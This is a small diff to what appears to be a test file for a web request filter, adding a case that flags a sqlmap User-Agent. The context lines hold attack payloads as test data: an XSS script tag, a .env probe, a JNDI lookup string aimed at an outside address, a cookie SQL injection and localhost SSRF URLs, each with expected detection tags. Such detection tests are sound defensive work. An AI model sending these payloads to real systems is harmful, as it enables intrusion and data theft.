@@ -134,6 +134,7 @@ def test_what_is_looked_at_is_what_is_forwarded() -> None:
         ((), b"/a", b"<script>alert(1)</script>=1", ["xss"]),
         ((), b"/.env", None, ["traversal", "probe"]),
         (((b"User-Agent", b"${jndi:ldap://192.0.2.9/a}"),), b"/a", None, ["lookup"]),
+        (((b"User-Agent", b"sqlmap/1.8#stable (https://sqlmap.org)"),), b"/a", None, ["agent"]),
         (((b"Cookie", b"a=1; id=1'%20or%201=1--"),), b"/a", None, ["sqli"]),
         (((b"Referer", b"http://127.0.0.1/x"),), b"/a", None, []),
         (((b"Forwarded-To", b"http://127.0.0.1/x"),), b"/a", None, ["ssrf"]),
